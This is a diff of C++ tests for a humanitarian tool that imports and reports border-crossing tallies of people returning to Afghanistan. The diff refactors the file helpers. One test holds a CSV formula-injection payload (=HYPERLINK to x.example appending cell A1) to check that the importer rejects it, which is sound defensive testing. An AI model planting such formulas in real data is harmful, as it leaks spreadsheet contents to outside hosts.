@@ -7,28 +7,21 @@
 #include <nlohmann/json.hpp>
 #include <sstream>
 
+#include "../testing/files.h"
 #include "../testing/process.h"
 #include "../testing/temp_dir.h"
 
 namespace sanad {
 namespace {
 
+using sanad::testing::ReadWholeFile;
+using sanad::testing::WriteWholeFile;
+
 using sanad::testing::Run;
 
 const char* kHeader =
     "date,crossing_point,direction,mode,households,individuals,female,male,age_0_4,age_5_17,"
     "age_18_59,age_60_plus,destination_province\n";
-
-void Write(const std::string& path, const std::string& text) {
-  std::ofstream(path, std::ios::binary) << text;
-}
-
-std::string Slurp(const std::string& path) {
-  std::ifstream in(path, std::ios::binary);
-  std::stringstream s;
-  s << in.rdbuf();
-  return s.str();
-}
 
 // A week of tallies at Torkham and Chaman; 2 deported women at Chaman on
 // 2025-04-08 make small cells.
@@ -74,11 +67,12 @@ struct Site {
 TEST(ImportMovements, BadRowsAreNamedAndNothingIsImported) {
   Site site;
   const std::string csv = site.dir.File("tallies.csv");
-  Write(csv, std::string(kHeader) +
-                 "2025-04-07,Torkham,to_afghanistan,spontaneous,120,800,420,380,160,240,360,40,"
-                 "Nangarhar\n"
-                 "2025-04-07,Torkham,to_afghanistan,deported,40,90,10,79,5,10,70,5,Kabul\n"
-                 "2025-04-08,Karachi,to_afghanistan,spontaneous,50,300,160,140,60,90,130,20,\n");
+  WriteWholeFile(
+      csv, std::string(kHeader) +
+               "2025-04-07,Torkham,to_afghanistan,spontaneous,120,800,420,380,160,240,360,40,"
+               "Nangarhar\n"
+               "2025-04-07,Torkham,to_afghanistan,deported,40,90,10,79,5,10,70,5,Kabul\n"
+               "2025-04-08,Karachi,to_afghanistan,spontaneous,50,300,160,140,60,90,130,20,\n");
   auto result = site.Sanad({"import", "movements", csv});
   EXPECT_NE(result.exit_code, 0);
   EXPECT_NE(result.err.find("tallies.csv:3: female: female + male = 89 but individuals = 90"),
@@ -88,7 +82,7 @@ TEST(ImportMovements, BadRowsAreNamedAndNothingIsImported) {
   EXPECT_NE(result.err.find("nothing was imported"), std::string::npos);
 
   // A good file afterwards: only its people are in the report.
-  Write(csv, GoodTallies());
+  WriteWholeFile(csv, GoodTallies());
   result = site.Sanad({"import", "movements", csv});
   ASSERT_EQ(result.exit_code, 0) << result.err;
   EXPECT_NE(result.out.find("imported 6 tallies"), std::string::npos) << result.out;
@@ -101,7 +95,7 @@ TEST(ImportMovements, BadRowsAreNamedAndNothingIsImported) {
 TEST(ReportFlash, JsonCsvAndXlsx) {
   Site site;
   const std::string csv = site.dir.File("tallies.csv");
-  Write(csv, GoodTallies());
+  WriteWholeFile(csv, GoodTallies());
   ASSERT_EQ(site.Sanad({"import", "movements", csv}).exit_code, 0);
 
   auto result = site.Sanad({"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13", "--by",
@@ -128,7 +122,7 @@ TEST(ReportFlash, JsonCsvAndXlsx) {
   result = site.Sanad({"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13", "--format",
                        "xlsx", "--out", xlsx});
   ASSERT_EQ(result.exit_code, 0) << result.err;
-  const std::string bytes = Slurp(xlsx);
+  const std::string bytes = ReadWholeFile(xlsx);
   ASSERT_GT(bytes.size(), 4000u);
   EXPECT_EQ(bytes.substr(0, 2), "PK");
 }
@@ -136,7 +130,7 @@ TEST(ReportFlash, JsonCsvAndXlsx) {
 TEST(ReportFlash, SmallCellsNeedAPurposeAndAreAudited) {
   Site site;
   const std::string csv = site.dir.File("tallies.csv");
-  Write(csv, GoodTallies());
+  WriteWholeFile(csv, GoodTallies());
   ASSERT_EQ(site.Sanad({"import", "movements", csv}).exit_code, 0);
   auto result = site.Sanad(
       {"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13", "--no-suppression"});
@@ -162,7 +156,7 @@ TEST(ReportFlash, SmallCellsNeedAPurposeAndAreAudited) {
 TEST(ReportFlash, BadOptionsAreExplained) {
   Site site;
   const std::string csv = site.dir.File("tallies.csv");
-  Write(csv, GoodTallies());
+  WriteWholeFile(csv, GoodTallies());
   ASSERT_EQ(site.Sanad({"import", "movements", csv}).exit_code, 0);
   struct Case {
     std::vector<std::string> args;
@@ -190,7 +184,7 @@ TEST(ReportFlash, BadOptionsAreExplained) {
 TEST(ImportMovements, TheSameFileTwiceIsRefusedUnlessAgain) {
   Site site;
   const std::string csv = site.dir.File("tallies.csv");
-  Write(csv, GoodTallies());
+  WriteWholeFile(csv, GoodTallies());
   ASSERT_EQ(site.Sanad({"import", "movements", csv}).exit_code, 0);
   auto twice = site.Sanad({"import", "movements", csv});
   EXPECT_NE(twice.exit_code, 0);
@@ -214,14 +208,14 @@ TEST(ImportMovements, TheSameFileTwiceIsRefusedUnlessAgain) {
 TEST(ImportMovements, AFormulaAsDestinationIsRefusedNamingTheRow) {
   Site site;
   const std::string csv = site.dir.File("tallies.csv");
-  Write(csv, GoodTallies() +
-                 "2025-04-09,Torkham,to_afghanistan,deported,40,90,10,80,5,10,70,5,"
-                 "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\"\n");
+  WriteWholeFile(csv, GoodTallies() +
+                          "2025-04-09,Torkham,to_afghanistan,deported,40,90,10,80,5,10,70,5,"
+                          "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\"\n");
   auto result = site.Sanad({"import", "movements", csv});
   EXPECT_NE(result.exit_code, 0);
   EXPECT_NE(result.err.find("tallies.csv:8: destination_province:"), std::string::npos)
       << result.err;
-  Write(csv, GoodTallies());
+  WriteWholeFile(csv, GoodTallies());
   ASSERT_EQ(site.Sanad({"import", "movements", csv}).exit_code, 0);
   result = site.Sanad({"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13", "--format",
                        "csv", "--by-destination"});
@@ -236,12 +230,12 @@ TEST(ImportMovements, CrOnlyFilesAreReadAndFutureDatesRefused) {
   const std::string csv = site.dir.File("tallies.csv");
   std::string text = GoodTallies();
   std::replace(text.begin(), text.end(), '\n', '\r');
-  Write(csv, text);
+  WriteWholeFile(csv, text);
   auto result = site.Sanad({"import", "movements", csv});
   ASSERT_EQ(result.exit_code, 0) << result.err;
   EXPECT_NE(result.out.find("imported 6 tallies"), std::string::npos) << result.out;
-  Write(csv, std::string(kHeader) +
-                 "2999-01-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,Kabul\n");
+  WriteWholeFile(csv, std::string(kHeader) +
+                          "2999-01-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,Kabul\n");
   result = site.Sanad({"import", "movements", csv});
   EXPECT_NE(result.exit_code, 0);
   EXPECT_NE(result.err.find("tallies.csv:2: date:"), std::string::npos) << result.err;
